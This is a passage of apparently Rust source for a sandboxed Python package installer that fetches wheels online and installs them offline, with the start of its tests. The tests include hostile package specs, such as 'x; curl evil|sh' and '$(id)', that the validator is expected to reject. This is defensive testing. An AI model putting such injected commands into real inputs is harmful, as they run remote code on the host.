//! Installs in two phases; the network never meets the environment.
//!
//! 1. **fetching** (network on): a container of the sandbox image that mounts no
//!    environment at all runs only the image's own pip (`/usr/bin/python3 -I -m pip
//!    download --only-binary=:all:`), for the environment's Python version and the
//!    manylinux platforms the image's glibc runs, into a fresh per-install directory under
//!    the data directory, as the sandbox uid. Wheels only: nothing of the packages runs, so
//!    no package code is ever online. A package without a wheel fails with a message saying
//!    so (source builds would run the package's build code).
//! 2. **installing** (network none): the environment mounted read-write, the wheels
//!    read-only, `/usr/bin/python3 -I -m pip --python ENV_PYTHON install --no-index
//!    --find-links WHEELS`. `--python` makes pip-less environments (uv venvs, venvs made
//!    `--without-pip`, conda prefixes without pip) installable. It runs as the environment's
//!    owner; when that is root, setuid/setgid bits are stripped under the prefix afterwards.
//!
//! Installs into one environment are serialized; runs keep going during the fetch and wait
//! only for the install phase (they see the environment before or after it, never halfway).
//! Each phase is one container with [`installer_limits`], lowered to the tenant's own
//! limits ([`InstallCaps`]).

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use serde::{Deserialize, Serialize};
use tokio::sync::mpsc::{unbounded_channel, UnboundedSender};

use super::{
    blocking, create_owned_dir, failed, io_err, json_file, owner_of, EnvManager, ManagerError,
    PackageStatus, CHECK_CORE, SANDBOX_UID,
};
use crate::backend::{Backend, BackendError};
use crate::env::spec;
use crate::env::{EnvKind, Environment};
use crate::job::{InputFile, JobSpec, Limits, Outcome, RunEnv, RunEvent, Source};

/// The sandbox image is Debian bookworm: glibc 2.36, so wheels tagged up to
/// manylinux_2_36 run in it.
const IMAGE_GLIBC_MINOR: u32 = 36;

impl EnvManager {
    /// Install `req.specs` into `req.env` in two phases (see the module doc): wheels
    /// fetched with the network and no environment, then installed without network.
    ///
    /// Once the install phase has begun it runs to its end even if this future is dropped
    /// (it is offline and bounded by its timeout): the environment is never left halfway,
    /// and a root-owned environment is always swept of setuid bits afterwards.
    pub async fn install(
        &self,
        sandbox: Arc<dyn Backend>,
        req: Install<'_>,
        events: InstallEvents,
    ) -> Result<InstallReport, ManagerError> {
        spec::validate(req.specs)?;
        let env = req.env;
        let mm = major_minor_of(req.python_version).ok_or_else(|| ManagerError::Failed {
            what: "preparing the install",
            status: "unknown Python version".into(),
            stderr: format!(
                "the environment reported Python `{}`; wheels are chosen by its version",
                req.python_version
            ),
        })?;
        let locks = self.locks_of(&env.prefix).await;
        let serial = locks.install.clone().lock_owned().await;
        let (uid, gid) = owner_of(&env.prefix)?;
        let ca = self.ca_copy().await?;
        let data_dir = self.data_dir.clone();
        let dir = blocking(move || InstallDir::create(&data_dir)).await?;

        // Phase 1: fetch wheels. Network on, no environment mounted, the image's pip.
        let started = std::time::Instant::now();
        let fetch = self.fetch_job(&req, &dir, ca.as_deref(), &mm);
        let o = run_phase(&*sandbox, fetch, &events, Phase::Fetching).await?;
        let fetch_ms = started.elapsed().as_millis() as u64;
        if !o.success() {
            return Err(failed("fetching wheels", &o));
        }
        let answer: FetchAnswer = last_json_line(&o, "fetching wheels")?;
        if !answer.ok {
            return Err(answer.error(&mm, &o));
        }

        // Phase 2: install them. Network off, the environment read-write, as its owner.
        let pip_wheel = if needs_own_pip(&mm) {
            let found = dir.pip_wheel();
            if found.is_none() {
                return Err(ManagerError::Failed {
                    what: "fetching wheels",
                    status: "no pip wheel".into(),
                    stderr: format!(
                        "Python {mm} needs a pip of its own (the image's pip runs on 3.7 to 3.11), and none was downloaded"
                    ),
                });
            }
            found
        } else {
            None
        };
        let job = install_job(&req, &dir, (uid, gid), pip_wheel);
        let excl = locks.rw.clone().write_owned().await;
        let prefix = env.prefix.clone();
        let task = tokio::spawn(async move {
            let (_serial, _excl, _dir) = (serial, excl, dir);
            let started = std::time::Instant::now();
            let r = run_phase(&*sandbox, job, &events, Phase::Installing).await;
            let ms = started.elapsed().as_millis() as u64;
            let stripped = if uid == 0 {
                let p = prefix.clone();
                Some(blocking(move || strip_setid_bits(&p).map_err(io_err(&p))).await)
            } else {
                None
            };
            (r, ms, stripped)
        });
        let (r, install_ms, stripped) = task.await.map_err(|e| ManagerError::Failed {
            what: "pip install",
            status: "the installer task ended abnormally".into(),
            stderr: e.to_string(),
        })?;
        if let Some(s) = stripped {
            let n = s?;
            if n > 0 {
                tracing::warn!(prefix = %env.prefix.display(), files = n, "setuid/setgid bits stripped after an install as root");
            }
        }
        let o = r?;
        if !o.success() {
            return Err(failed("pip install", &o));
        }
        let answer: InstallAnswer = last_json_line(&o, "pip install")?;
        let requested: Vec<String> = answer
            .installed
            .iter()
            .map(|p| spec::normalize(&p.name))
            .collect();
        let dependencies = answer
            .summary
            .as_deref()
            .map(parse_successfully_installed)
            .unwrap_or_default()
            .into_iter()
            .filter(|(name, _)| !requested.contains(&spec::normalize(name)))
            .map(|(name, version)| PackageStatus {
                name,
                installed: true,
                version: Some(version),
            })
            .collect();
        Ok(InstallReport {
            environment: InstalledInto {
                kind: env.kind,
                path: env.prefix.clone(),
            },
            installed: answer.installed,
            dependencies,
            fetch_ms,
            install_ms,
            outcome: o,
        })
    }

    /// The fetch phase's job: the image's Python and pip, no environment, network on, the
    /// sandbox uid, the per-install directory the only writable mount.
    fn fetch_job(
        &self,
        req: &Install<'_>,
        dir: &InstallDir,
        ca: Option<&Path>,
        mm: &str,
    ) -> JobSpec {
        let mut job = JobSpec::python(FETCH_SCRIPT, req.caps.apply(installer_limits()));
        job.tenant = req.tenant.to_string();
        let mut env = RunEnv {
            python: None,
            sources: vec![Source::host_writable(&dir.root)],
            vars: pip_vars(),
            network: true,
            user: Some(format!("{SANDBOX_UID}:{SANDBOX_UID}")),
        };
        // pip's temporary downloads go to disk, not to the memory-backed /tmp.
        env.vars
            .push(("TMPDIR".into(), dir.tmp().display().to_string()));
        if let Some(ca) = ca {
            env.sources.push(Source::host(ca));
            for var in ["SSL_CERT_FILE", "PIP_CERT", "REQUESTS_CA_BUNDLE"] {
                env.vars.push((var.into(), ca.display().to_string()));
            }
        }
        env.vars.extend(self.index_vars.iter().cloned());
        job.env = env;
        let config = serde_json::json!({
            "specs": req.specs,
            "python_version": mm,
            "platforms": manylinux_platforms(std::env::consts::ARCH),
            "dest": dir.wheels(),
            "own_pip": needs_own_pip(mm),
            "tools": dir.tools(),
        });
        job.files.push(InputFile {
            path: "fetch.json".into(),
            contents: config.to_string().into_bytes(),
        });
        job
    }

    /// The configured CA bundle, copied into the data directory (when it changed), so the
    /// path mounted is valid for the daemon too. `None` when no bundle is configured.
    async fn ca_copy(&self) -> Result<Option<PathBuf>, ManagerError> {
        let Some(src) = self.ca_bundle.clone() else {
            return Ok(None);
        };
        let dest = self.ca_copy_path();
        blocking(move || copy_if_changed(&src, &dest))
            .await
            .map(Some)
    }
}

/// The environment an install went into.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct InstalledInto {
    #[serde(rename = "type")]
    pub kind: EnvKind,
    pub path: PathBuf,
}

/// The result of an install: the requested packages with the versions now present, what
/// pip installed beyond them, and the outcome of the install phase.
#[derive(Debug, Clone, Serialize)]
pub struct InstallReport {
    pub environment: InstalledInto,
    /// The requested packages, as the environment reports them after the install.
    pub installed: Vec<PackageStatus>,
    /// Dependencies pip installed (or upgraded) beyond the requested packages.
    pub dependencies: Vec<PackageStatus>,
    /// Wall time of each phase.
    pub fetch_ms: u64,
    pub install_ms: u64,
    #[serde(skip)]
    pub outcome: Outcome,
}

/// The two phases of an install, as progress names them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Phase {
    /// Downloading wheels, network on, no environment mounted.
    Fetching,
    /// pip installs the wheels into the environment, network off.
    Installing,
}

impl Phase {
    pub fn as_str(self) -> &'static str {
        match self {
            Phase::Fetching => "fetching",
            Phase::Installing => "installing",
        }
    }
}

/// What an install reports as it goes.
#[derive(Debug, Clone, PartialEq)]
pub enum InstallEvent {
    /// A phase begins.
    Begin(Phase),
    /// An event of the phase's container.
    Run(Phase, RunEvent),
}

/// Where an install's events go; `None` when nobody listens.
pub type InstallEvents = Option<UnboundedSender<InstallEvent>>;

/// A tenant's own limits, which its installer containers never exceed (`None`: the
/// installer's default). Each phase is one container and gets these limits.
#[derive(Debug, Clone, Copy, Default, PartialEq)]
pub struct InstallCaps {
    pub cpus: Option<f64>,
    pub memory_bytes: Option<u64>,
    pub timeout: Option<Duration>,
}

impl InstallCaps {
    /// `limits`, lowered to the caps where they are lower.
    pub fn apply(&self, mut limits: Limits) -> Limits {
        if let Some(c) = self.cpus {
            limits.cpus = limits.cpus.min(c);
        }
        if let Some(m) = self.memory_bytes {
            limits.memory_bytes = limits.memory_bytes.min(m);
        }
        if let Some(t) = self.timeout {
            limits.timeout = limits.timeout.min(t);
        }
        limits
    }
}

/// What to install, into what: the environment given is the one written to, whatever the
/// current environment has become meanwhile.
#[derive(Debug, Clone)]
pub struct Install<'a> {
    pub env: &'a Environment,
    /// The environment's Python version as its probe reported it (`3.11.2`): wheels are
    /// fetched for its `major.minor`.
    pub python_version: &'a str,
    pub tenant: &'a str,
    pub specs: &'a [String],
    pub caps: InstallCaps,
}

/// Limits of each installer container: more room than runs, for pip. The tenant's own
/// limits lower them ([`InstallCaps`]).
pub fn installer_limits() -> Limits {
    Limits {
        timeout: Duration::from_secs(300),
        memory_bytes: 2 << 30,
        cpus: 2.0,
        pids: 512,
        output_bytes: 1 << 20,
        workspace_bytes: 16 << 20,
        tmp_bytes: 256 << 20,
        nofile: 4096,
    }
}

/// The install phase's job: the environment's Python, the environment read-write (its
/// base interpreter read-only), the wheels read-only, no network, the owner's uid.
///
/// `pip_wheel`: the pip wheel to run instead of the image's pip, for a Python the image's
/// pip cannot run ([`needs_own_pip`]).
fn install_job(
    req: &Install<'_>,
    dir: &InstallDir,
    (uid, gid): (u32, u32),
    pip_wheel: Option<PathBuf>,
) -> JobSpec {
    let env = req.env;
    let names: Vec<String> = req
        .specs
        .iter()
        .map(|s| spec::name_of(s).to_string())
        .collect();
    let mut run_env = env.run_env();
    // The environment itself (the first source), read-write: pip writes into it.
    run_env.sources[0] = Source::host_writable(&env.prefix);
    run_env.sources.push(Source::host(dir.wheels()));
    if pip_wheel.is_some() {
        run_env.sources.push(Source::host(dir.tools()));
    }
    run_env.network = false;
    run_env.user = Some(format!("{uid}:{gid}"));
    run_env.vars = pip_vars();
    run_env.vars.push(("PIP_NO_INDEX".into(), "1".into()));
    let code = format!(
        "{INSTALL_PIP}{CHECK_CORE}print(json.dumps({{'summary': summary, 'installed': out}}))\n"
    );
    let mut job = JobSpec::python(code, req.caps.apply(installer_limits()));
    job.tenant = req.tenant.to_string();
    job.env = run_env;
    let config = serde_json::json!({
        "python": env.python,
        "wheels": dir.wheels(),
        "specs": req.specs,
        "pip_wheel": pip_wheel,
    });
    job.files.push(InputFile {
        path: "install.json".into(),
        contents: config.to_string().into_bytes(),
    });
    job.files.push(json_file("names.json", &names));
    job
}

/// Variables both installer phases set: no pip configuration file can redirect them, no
/// cache, a writable home.
fn pip_vars() -> Vec<(String, String)> {
    [
        ("HOME", "/tmp"),
        ("PIP_CONFIG_FILE", "/dev/null"),
        ("PIP_NO_CACHE_DIR", "1"),
        ("PIP_DISABLE_PIP_VERSION_CHECK", "1"),
    ]
    .iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect()
}

/// Run one phase's job, its events tagged with the phase.
async fn run_phase(
    sandbox: &dyn Backend,
    job: JobSpec,
    events: &InstallEvents,
    phase: Phase,
) -> Result<Outcome, BackendError> {
    let Some(outer) = events else {
        return sandbox.run(job, None).await;
    };
    let _ = outer.send(InstallEvent::Begin(phase));
    let (tx, mut rx) = unbounded_channel();
    let outer = outer.clone();
    let forward = tokio::spawn(async move {
        while let Some(e) = rx.recv().await {
            let _ = outer.send(InstallEvent::Run(phase, e));
        }
    });
    let r = sandbox.run(job, Some(tx)).await;
    // The sandbox dropped its sender: the last events are forwarded before the next phase.
    let _ = tokio::time::timeout(Duration::from_secs(1), forward).await;
    r
}

/// Platform tags of wheels that run in the sandbox image, newest first. pip 23 does not
/// expand `manylinux_2_36` to the older glibc tags by itself, so all are given.
pub fn manylinux_platforms(arch: &str) -> Vec<String> {
    let mut tags: Vec<String> = (17..=IMAGE_GLIBC_MINOR)
        .rev()
        .map(|minor| format!("manylinux_2_{minor}_{arch}"))
        .collect();
    tags.push(format!("manylinux2014_{arch}"));
    if arch == "x86_64" || arch == "i686" {
        tags.push(format!("manylinux2010_{arch}"));
        tags.push(format!("manylinux1_{arch}"));
    }
    tags
}

/// How the platforms are named in messages.
fn platform_words() -> String {
    format!(
        "Linux {} (manylinux wheels, glibc 2.17 to 2.{IMAGE_GLIBC_MINOR})",
        std::env::consts::ARCH
    )
}

/// `3.11.7` → `3.11`; `None` when it is not a version.
fn major_minor_of(v: &str) -> Option<String> {
    let mut it = v.trim().split('.');
    let major = it
        .next()
        .filter(|s| !s.is_empty() && s.chars().all(|c| c.is_ascii_digit()))?;
    let minor: String = it
        .next()?
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    (!minor.is_empty()).then(|| format!("{major}.{minor}"))
}

/// Does an environment of Python `mm` (`3.12`) need a pip of its own? The image's pip
/// (23.0.1) runs on Python 3.7 to 3.11 only (on 3.12 it fails on `pkgutil.ImpImporter`):
/// for other versions the fetch phase also downloads the newest pip wheel that supports
/// the environment's Python, and the install phase runs the environment's Python with it
/// (offline, like the image's pip would run).
fn needs_own_pip(mm: &str) -> bool {
    let mut it = mm.split('.').map(|p| p.parse::<u32>().ok());
    match (it.next().flatten(), it.next().flatten()) {
        (Some(3), Some(minor)) => !(7..=11).contains(&minor),
        _ => true,
    }
}

/// The fetch phase's answer.
#[derive(Debug, Deserialize)]
struct FetchAnswer {
    ok: bool,
    #[serde(default)]
    missing: Vec<Missing>,
}

/// A requirement pip found no wheel for.
#[derive(Debug, Deserialize)]
struct Missing {
    requirement: String,
    /// Versions with a usable wheel, as pip listed them (`none`, or oldest first).
    wheel_versions: Option<String>,
    /// Versions on the index of any kind (newest first); `None`: no such package.
    versions: Option<String>,
}

impl FetchAnswer {
    fn error(&self, mm: &str, o: &Outcome) -> ManagerError {
        if self.missing.is_empty() {
            return failed("fetching wheels", o);
        }
        let mut no_wheel = false;
        let missing = self
            .missing
            .iter()
            .map(|m| match (&m.versions, m.wheel_versions.as_deref()) {
                (None, _) => format!(
                    "`{}`: no such package on the package index (check the name)",
                    m.requirement
                ),
                (Some(all), None | Some("none")) => {
                    no_wheel = true;
                    format!(
                        "`{}`: no wheel for Python {mm} on this platform (the index has versions {}, as source distributions or for other platforms)",
                        m.requirement,
                        few(all, false)
                    )
                }
                (Some(all), Some(wheels)) => {
                    no_wheel = true;
                    format!(
                        "`{}`: no version with a wheel matches (versions with a wheel: {}; all versions: {})",
                        m.requirement,
                        few(wheels, true),
                        few(all, false)
                    )
                }
            })
            .collect();
        ManagerError::NotAvailable {
            missing,
            no_wheel,
            python: mm.to_string(),
            platform: platform_words(),
        }
    }
}

/// At most ten of a comma-separated version list, the newest ones.
fn few(list: &str, oldest_first: bool) -> String {
    let mut v: Vec<&str> = list
        .split(',')
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect();
    if oldest_first {
        v.reverse();
    }
    let more = v.len() > 10;
    v.truncate(10);
    format!("{}{}", v.join(", "), if more { ", ..." } else { "" })
}

/// The install phase's answer.
#[derive(Debug, Deserialize)]
struct InstallAnswer {
    /// pip's `Successfully installed a-1.0 b-2.0` line, if it installed anything.
    summary: Option<String>,
    installed: Vec<PackageStatus>,
}

/// The last line of stdout as JSON.
fn last_json_line<T: serde::de::DeserializeOwned>(
    o: &Outcome,
    what: &'static str,
) -> Result<T, ManagerError> {
    let text = o.stdout_text();
    let last = text.lines().last().unwrap_or_default();
    serde_json::from_str(last).map_err(|e| ManagerError::Failed {
        what,
        status: "unreadable answer".into(),
        stderr: e.to_string(),
    })
}

/// `Successfully installed certifi-2024.2.2 charset_normalizer-3.3.2` → name, version
/// pairs (pip prints `name-version`; a normalized version has no `-`).
pub fn parse_successfully_installed(line: &str) -> Vec<(String, String)> {
    line.trim()
        .strip_prefix("Successfully installed")
        .unwrap_or_default()
        .split_whitespace()
        .filter_map(|item| {
            let (name, version) = item.rsplit_once('-')?;
            (!name.is_empty() && !version.is_empty())
                .then(|| (name.to_string(), version.to_string()))
        })
        .collect()
}

/// Clear the setuid and setgid bits of everything under `root` (symlinks are not
/// followed). Returns how many entries had one. Run after an install as root, so that a
/// hostile wheel (or code run during the install) cannot leave a setuid-root binary on
/// the host.
pub fn strip_setid_bits(root: &Path) -> std::io::Result<usize> {
    use std::os::unix::fs::PermissionsExt;
    let mut stack = vec![root.to_path_buf()];
    let mut stripped = 0;
    while let Some(p) = stack.pop() {
        let m = std::fs::symlink_metadata(&p)?;
        if m.file_type().is_symlink() {
            continue;
        }
        let mode = m.permissions().mode();
        if mode & 0o6000 != 0 {
            std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode & 0o1777))?;
            stripped += 1;
        }
        if m.is_dir() {
            for e in std::fs::read_dir(&p)? {
                stack.push(e?.path());
            }
        }
    }
    Ok(stripped)
}

/// The per-install scratch directory under the data directory: `wheels/` (the fetch
/// phase's download, read-only to the install phase) and `tmp/` (pip's temporary files).
/// Removed when dropped.
struct InstallDir {
    root: PathBuf,
}

/// Scratch directories older than this are leftovers of a killed server: removed.
const STALE_INSTALL_DIR: Duration = Duration::from_secs(24 * 3600);

impl InstallDir {
    fn create(data_dir: &Path) -> Result<InstallDir, ManagerError> {
        let base = data_dir.join("installs");
        std::fs::create_dir_all(&base).map_err(io_err(&base))?;
        if let Ok(entries) = std::fs::read_dir(&base) {
            for e in entries.flatten() {
                let old = e
                    .metadata()
                    .and_then(|m| m.modified())
                    .ok()
                    .and_then(|t| t.elapsed().ok())
                    .is_some_and(|age| age > STALE_INSTALL_DIR);
                if old {
                    let _ = std::fs::remove_dir_all(e.path());
                }
            }
        }
        let base = std::fs::canonicalize(&base).map_err(io_err(&base))?;
        let dir = InstallDir {
            root: base.join(crate::job::new_job_id()),
        };
        create_owned_dir(&dir.root)?;
        create_owned_dir(&dir.wheels())?;
        create_owned_dir(&dir.tmp())?;
        create_owned_dir(&dir.tools())?;
        Ok(dir)
    }

    fn wheels(&self) -> PathBuf {
        self.root.join("wheels")
    }

    fn tmp(&self) -> PathBuf {
        self.root.join("tmp")
    }

    /// A pip wheel for environments whose Python the image's pip cannot run.
    fn tools(&self) -> PathBuf {
        self.root.join("tools")
    }

    /// The pip wheel the fetch phase saved in `tools/`, looked up on the host.
    fn pip_wheel(&self) -> Option<PathBuf> {
        std::fs::read_dir(self.tools())
            .ok()?
            .flatten()
            .map(|e| e.path())
            .find(|p| {
                p.file_name()
                    .and_then(|n| n.to_str())
                    .is_some_and(|n| n.starts_with("pip-") && n.ends_with(".whl"))
                    && p.symlink_metadata().is_ok_and(|m| m.is_file())
            })
    }
}

impl Drop for InstallDir {
    /// Removes the downloaded wheels (possibly hundreds of MB) on the blocking pool, not on
    /// the async thread that dropped it.
    fn drop(&mut self) {
        let root = std::mem::take(&mut self.root);
        let remove = move || {
            if let Err(e) = std::fs::remove_dir_all(&root) {
                tracing::warn!(dir = %root.display(), error = %e, "install scratch directory not removed");
            }
        };
        match tokio::runtime::Handle::try_current() {
            Ok(rt) => drop(rt.spawn_blocking(remove)),
            Err(_) => remove(),
        }
    }
}

/// Copy `src` to `dest` (atomically, mode 0644) unless `dest` already holds the same bytes;
/// returns `dest`'s canonical path.
fn copy_if_changed(src: &Path, dest: &Path) -> Result<PathBuf, ManagerError> {
    use std::os::unix::fs::PermissionsExt;
    let bytes = std::fs::read(src).map_err(|e| ManagerError::Io {
        path: src.to_path_buf(),
        detail: format!("the CA bundle cannot be read ({e}); set MCP_EXECUTOR_CA_BUNDLE / --ca-bundle to a readable PEM file"),
    })?;
    let dir = dest.parent().unwrap_or(Path::new("/"));
    std::fs::create_dir_all(dir).map_err(io_err(dir))?;
    if std::fs::read(dest).ok().as_deref() != Some(&bytes[..]) {
        let tmp = dir.join(format!(".ca-bundle-{}.tmp", crate::job::new_job_id()));
        std::fs::write(&tmp, &bytes).map_err(io_err(&tmp))?;
        std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o644))
            .map_err(io_err(&tmp))?;
        std::fs::rename(&tmp, dest).map_err(io_err(dest))?;
    }
    std::fs::canonicalize(dest).map_err(io_err(dest))
}

/// Phase 1, run by the image's Python: `pip download` of wheels only, for the
/// environment's Python and the image's platforms. On failure, asks the index which
/// versions exist of each requirement pip found no wheel for. Last line: JSON.
const FETCH_SCRIPT: &str = r#"
import json, re, subprocess, sys
cfg = json.load(open('fetch.json'))
pip = ['/usr/bin/python3', '-I', '-m', 'pip']
quiet = ['--disable-pip-version-check', '--no-input']
cmd = pip + ['download'] + quiet + ['--progress-bar', 'off', '--only-binary=:all:',
      '--python-version', cfg['python_version'], '--implementation', 'cp']
for p in cfg['platforms']:
    cmd += ['--platform', p]
cmd += ['--dest', cfg['dest'], '--'] + cfg['specs']
proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                        universal_newlines=True, errors='replace')
missing, wheel_versions = [], {}
for line in proc.stdout:
    sys.stderr.write(line)
    sys.stderr.flush()
    m = re.match(r'ERROR: Could not find a version that satisfies the requirement (\S+) \(from versions: (.*)\)', line)
    if m:
        wheel_versions[m.group(1)] = m.group(2)
    m = re.match(r'ERROR: No matching distribution found for (\S+)', line)
    if m:
        missing.append(m.group(1))
rc = proc.wait()
if rc == 0 and cfg['own_pip']:
    # The environment's Python is one the image's pip cannot run: a pip wheel for it.
    pcmd = pip + ['download'] + quiet + ['--progress-bar', 'off', '--only-binary=:all:',
           '--no-deps', '--python-version', cfg['python_version'], '--implementation', 'cp',
           '--dest', cfg['tools'], '--', 'pip']
    rc = subprocess.run(pcmd, stdout=sys.stderr).returncode
answer = {'ok': rc == 0, 'missing': []}
for req in (missing if rc else []):
    name = re.match(r'[A-Za-z0-9._-]*', req).group(0)
    versions = None
    if name:
        r = subprocess.run(pip + ['index', 'versions'] + quiet + ['--', name],
                           stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                           universal_newlines=True, errors='replace')
        for l in r.stdout.splitlines() if r.returncode == 0 else []:
            if l.startswith('Available versions:'):
                versions = l.split(':', 1)[1].strip()
    answer['missing'].append({'requirement': req, 'wheel_versions': wheel_versions.get(req),
                              'versions': versions})
print(json.dumps(answer))
"#;

/// Phase 2, run by the environment's Python: the image's pip installs into it with
/// `--python` (or, for a Python the image's pip cannot run, the fetched pip wheel run by
/// the environment's Python), from the wheels only; pip's output goes to stderr, its
/// summary line is kept.
const INSTALL_PIP: &str = r#"
import json, subprocess, sys
cfg = json.load(open('install.json'))
if cfg['pip_wheel']:
    pip = [cfg['python'], cfg['pip_wheel'] + '/pip']
else:
    pip = ['/usr/bin/python3', '-I', '-m', 'pip', '--python', cfg['python']]
cmd = pip + ['install', '--no-index', '--find-links', cfg['wheels'], '--no-input',
             '--disable-pip-version-check', '--progress-bar', 'off',
             '--no-warn-script-location', '--'] + cfg['specs']
proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                        universal_newlines=True, errors='replace')
summary = None
for line in proc.stdout:
    sys.stderr.write(line)
    sys.stderr.flush()
    if line.startswith('Successfully installed '):
        summary = line.strip()
rc = proc.wait()
if rc:
    sys.exit(rc)
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::env::testing::{tempdir, Recorder};

    fn env_at(prefix: &Path, kind: EnvKind, base: Option<PathBuf>) -> Environment {
        std::fs::create_dir_all(prefix.join("bin")).unwrap();
        Environment {
            kind,
            prefix: prefix.to_path_buf(),
            python: prefix.join("bin/python"),
            base,
            version: None,
        }
    }

    fn install<'a>(env: &'a Environment, specs: &'a [String], caps: InstallCaps) -> Install<'a> {
        Install {
            env,
            python_version: "3.11.2",
            tenant: "acme",
            specs,
            caps,
        }
    }

    #[tokio::test]
    async fn hostile_specs_are_refused_before_any_sandbox_exists() {
        let m = EnvManager::new("/nonexistent".into(), None);
        let env = Environment {
            kind: EnvKind::Managed,
            prefix: "/nonexistent/env".into(),
            python: "/nonexistent/env/bin/python".into(),
            base: None,
            version: None,
        };
        let fake = Arc::new(Recorder::default());
        for bad in [
            "x; curl evil|sh",
            "--index-url=http://evil",
            "git+https://x/y",
            "a b",
        ] {
            let specs = [bad.to_string()];
            let err = m
                .install(
                    fake.clone(),
                    install(&env, &specs, InstallCaps::default()),
                    None,
                )
                .await
                .unwrap_err();
            assert!(matches!(err, ManagerError::Spec(_)), "{bad}: {err}");
        }
        let err = m
            .check(&*fake, &env, "acme", &["$(id)".into()])
            .await
            .unwrap_err();
        assert!(matches!(err, ManagerError::Spec(_)), "{err}");
        assert!(fake.jobs().is_empty(), "a sandbox was started");
    }

    #[tokio::test]
    async fn fetch_is_online_without_the_environment_install_offline_into_it() {
        let t = tempdir();
        let ca = t.join("server-ca.pem");
        std::fs::write(&ca, "-----BEGIN CERTIFICATE-----\n").unwrap();
        let data = t.join("data");
        let m = EnvManager::new(data.clone(), Some(ca));
        let base = t.join("pythons/3.11");
        std::fs::create_dir_all(&base).unwrap();
        let env = env_at(&t.join("uvenv"), EnvKind::UvVenv, Some(base.clone()));
        let fake = Arc::new(Recorder::default());
        let caps = InstallCaps {
            cpus: Some(0.5),
            memory_bytes: Some(256 << 20),
            timeout: Some(Duration::from_secs(60)),
        };
        let (tx, mut rx) = unbounded_channel();
        let specs = ["six".to_string(), "requests>=2".to_string()];
        let report = m
            .install(fake.clone(), install(&env, &specs, caps), Some(tx))
            .await
            .expect("install");
        let jobs = fake.jobs();
        assert_eq!(jobs.len(), 2, "two phases, two containers");
        let installs = std::fs::canonicalize(data.join("installs")).unwrap();

        // Phase 1: network on, the image's Python, uid 65534, no environment mounted.
        let f = &jobs[0];
        assert!(f.env.network);
        assert_eq!(f.env.python, None, "the image's own Python and pip");
        assert_eq!(f.env.user.as_deref(), Some("65534:65534"));
        for source in &f.env.sources {
            assert!(
                matches!(source, Source::HostPath { .. })
                    && !source.target().starts_with(&env.prefix)
                    && !source.target().starts_with(&base),
                "the environment is mounted in the fetch phase: {source:?}"
            );
        }
        let writable: Vec<_> = f.env.sources.iter().filter(|m| m.writable()).collect();
        assert_eq!(writable.len(), 1, "{:?}", f.env.sources);
        assert!(writable[0].target().starts_with(&installs), "{writable:?}");
        let ca_copy = std::fs::canonicalize(data.join("ca-bundle.pem")).unwrap();
        assert!(f.env.sources.contains(&Source::host(&ca_copy)));
        let var = |j: &JobSpec, k: &str| {
            j.env
                .vars
                .iter()
                .find(|(n, _)| n == k)
                .map(|(_, v)| v.clone())
        };
        assert_eq!(var(f, "PIP_CONFIG_FILE").as_deref(), Some("/dev/null"));
        assert_eq!(var(f, "SSL_CERT_FILE"), Some(ca_copy.display().to_string()));
        assert_eq!(var(f, "PIP_CERT"), Some(ca_copy.display().to_string()));
        let cfg: serde_json::Value = serde_json::from_slice(
            &f.files
                .iter()
                .find(|x| x.path == "fetch.json")
                .unwrap()
                .contents,
        )
        .unwrap();
        assert_eq!(cfg["python_version"], "3.11");
        assert_eq!(cfg["specs"], serde_json::json!(specs));
        let platforms = cfg["platforms"].to_string();
        let arch = std::env::consts::ARCH;
        for tag in ["manylinux_2_36_", "manylinux_2_17_", "manylinux2014_"] {
            assert!(platforms.contains(&format!("{tag}{arch}")), "{platforms}");
        }
        assert!(FETCH_SCRIPT.contains("'--only-binary=:all:'"));
        assert!(FETCH_SCRIPT.contains("'/usr/bin/python3', '-I', '-m', 'pip'"));
        assert_eq!(f.tenant, "acme");
        assert_eq!(f.limits.cpus, 0.5);
        assert_eq!(f.limits.memory_bytes, 256 << 20);
        assert_eq!(f.limits.timeout, Duration::from_secs(60));

        // Phase 2: network off, the environment read-write, the wheels read-only.
        let i = &jobs[1];
        assert!(!i.env.network);
        assert_eq!(i.env.sources[0], Source::host_writable(&env.prefix));
        assert!(i.env.sources.contains(&Source::host(&base)));
        let wheels: Vec<_> = i
            .env
            .sources
            .iter()
            .filter(|m| m.target().starts_with(&installs))
            .collect();
        assert_eq!(wheels.len(), 1);
        assert!(!wheels[0].writable());
        assert!(wheels[0].target().ends_with("wheels"));
        assert_eq!(i.env.python.as_deref(), Some(env.python.to_str().unwrap()));
        let (uid, gid) = owner_of(&env.prefix).unwrap();
        assert_eq!(i.env.user, Some(format!("{uid}:{gid}")));
        assert!(INSTALL_PIP.contains("'-m', 'pip', '--python', cfg['python']"));
        assert!(INSTALL_PIP.contains("['install', '--no-index', '--find-links', cfg['wheels']"));
        assert_eq!(i.limits.cpus, 0.5);

        // What was installed: the requested packages and the dependencies pip added.
        assert_eq!(report.installed[0].version.as_deref(), Some("1.17.0"));
        let deps: Vec<_> = report
            .dependencies
            .iter()
            .map(|p| (p.name.as_str(), p.version.as_deref().unwrap()))
            .collect();
        assert_eq!(deps, vec![("idna", "3.20"), ("urllib3", "2.2.1")]);
        assert_eq!(report.environment.path, env.prefix);

        // Progress names the phases, in order; the scratch directory is gone.
        let mut phases = vec![];
        while let Ok(e) = rx.try_recv() {
            if let InstallEvent::Begin(p) = e {
                phases.push(p);
            }
        }
        assert_eq!(phases, vec![Phase::Fetching, Phase::Installing]);
        // Removed on the blocking pool, a moment after the install returned.
        let t0 = std::time::Instant::now();
        while std::fs::read_dir(&installs).unwrap().count() > 0 {
            assert!(
                t0.elapsed() < Duration::from_secs(10),
                "scratch directory left"
            );
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        std::fs::remove_dir_all(t).ok();
    }

    #[tokio::test]
    async fn a_missing_wheel_is_explained_and_nothing_is_installed() {
        let t = tempdir();
